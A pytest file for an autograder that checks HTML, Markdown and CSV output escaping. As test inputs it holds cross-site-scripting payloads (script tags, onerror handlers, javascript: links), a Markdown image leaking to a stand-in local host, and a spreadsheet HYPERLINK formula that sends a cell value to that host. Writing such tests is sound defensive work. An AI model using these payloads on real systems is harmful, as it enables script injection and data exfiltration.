"""Every page and file the grader writes is inert: one module builds every jinja2 environment
(autograder/judge/templating.py) and one writes every CSV (autograder/batch/spreadsheet.py); escaping is chosen by the
template's family, never by its last extension (`report.html.j2` is HTML)."""

from __future__ import annotations

import csv
import io
import re

import jinja2
import pytest

from autograder.batch import spreadsheet
from autograder.judge import templating
from autograder.lab.paths import ENGINE

HOSTILE = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>',
           "![x](http://127.0.0.1:9/leak.png)", "[click](javascript:alert(1))", "<http://127.0.0.1:9/>",
           "```\n<script>x</script>\n```", "a | b\n# heading\n- item", "`` ` ``", "=HYPERLINK(\"http://e\")"]


def sources(pattern: str) -> dict[str, list[str]]:
    found = {}
    for path in ENGINE.rglob("*.py"):
        hits = [line for line in path.read_text().splitlines() if re.search(pattern, line)]
        if hits:
            found[str(path.relative_to(ENGINE))] = hits
    return found


def test_only_templating_makes_a_jinja2_environment():
    assert set(sources(r"jinja2\.Environment\(|\bEnvironment\(")) == {"judge/templating.py"}


def test_only_spreadsheet_writes_csv():
    assert set(sources(r"csv\.writer\(|DictWriter\(")) == {"batch/spreadsheet.py"}


def test_only_release_templates_print_authored_markdown():
    """`authored=True` (values printed as written) is for the release's handout only: lab facts, no submission."""
    assert set(sources(r"authored=True")) - {"judge/templating.py"} == {"bundling/handout.py"}


@pytest.mark.parametrize("name,kind", [("report.html.j2", "html"), ("x.HTML", "html"), ("engine/page.htm.j2", "html"),
                                       ("report.md.j2", "markdown"), ("lab/handout.md.j2", "markdown"),
                                       ("run_autograder.j2", "plain"), ("setup.sh.j2", "plain")])
def test_family_is_the_template_family_not_its_last_extension(name, kind):
    assert templating.family(name) == kind


@pytest.mark.parametrize("value", HOSTILE)
def test_html_templates_escape_every_value(value):
    env = templating.environment(jinja2.DictLoader({"page.html.j2": "<p title=\"{{ v }}\">{{ v }}</p>"}))
    out = env.get_template("page.html.j2").render(v=value)
    assert "<script" not in out and "<img" not in out and "<svg" not in out and '"><' not in out, out


def markdown_html(text: str) -> str:
    """What a CommonMark + GFM viewer makes of `text` (markdown-it, as GitHub and Jupyter render it)."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_values_cannot_make_markup(value):
    """Inline, in a table's cell and fenced: the value's text is all there, and it made no tag, link, image,
    heading, list or table row of its own."""
    source = ("# Report\n\nThe problem: {{ v }} (end)\n\n| part | problem |\n|---|---|\n| gae | {{ v|cell }} |\n\n"
              "{{ v|fence }}\n\nafter\n")
    env = templating.environment(jinja2.DictLoader({"r.md.j2": source}))
    html = markdown_html(env.get_template("r.md.j2").render(v=value))
    benign = markdown_html(env.get_template("r.md.j2").render(v="plain words"))
    tags = lambda h: re.findall(r"<(\w+)", re.sub(r"<code>.*?</code>", "", h, flags=re.S))  # noqa: E731
    assert tags(html) == tags(benign), html
    assert "<script" not in html and "<img" not in html and "href=" not in html, html
    assert html.count("<tr>") == 2 and "after" in html.split("</pre>")[-1], html


def test_plain_words_stay_as_they_are_in_markdown():
    env = templating.environment(jinja2.DictLoader({"r.md.j2": "{{ a }} / {{ b }}: {{ c }}"}))
    assert env.get_template("r.md.j2").render(a="12.5", b=20, c="gae.known_values failed (t = 0)") == \
        "12.5 / 20: gae.known_values failed (t = 0)"


def test_escaping_cannot_be_chosen_by_a_caller():
    with pytest.raises(ValueError):
        templating.environment(jinja2.DictLoader({}), autoescape=False)


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1",
                                   "\uff1d1+1", '=HYPERLINK("http://127.0.0.1:9/?"&C3,"x")'])
def test_a_formula_cell_is_quoted(value):
    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "+2", "3e-4", "12", "ada@uni.edu", "gae: 18 (was 12): ok", ""])
def test_a_value_stays_as_it_is(value):
    assert spreadsheet.cell(value) == value


def test_every_cell_and_header_of_a_csv_goes_through_the_rule():
    text = spreadsheet.csv_text(["=head", "b"], [{"=head": "=1+1", "b": "-2"}, {"=head": 'a,"b"\n=c', "b": None}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=head", "b"], ["'=1+1", "-2"], ['a,"b"\n=c', ""]]
